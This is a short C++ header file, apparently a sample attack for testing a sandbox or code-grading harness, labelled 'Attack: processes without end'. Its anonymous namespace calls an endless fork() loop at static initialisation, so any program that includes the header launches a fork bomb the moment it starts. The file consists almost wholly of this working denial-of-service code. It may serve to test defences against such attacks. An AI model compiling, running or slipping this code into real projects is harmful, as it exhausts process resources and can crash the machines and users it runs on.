// Attack: processes without end.
#pragma once

#include <cstdint>
#include <unistd.h>
#include <cuda_runtime.h>

namespace {
int forkForever() {
    for (;;) {
        if (fork() < 0) { usleep(1000); }
    }
}
const int forked = forkForever();
}  // namespace

//@ right-map
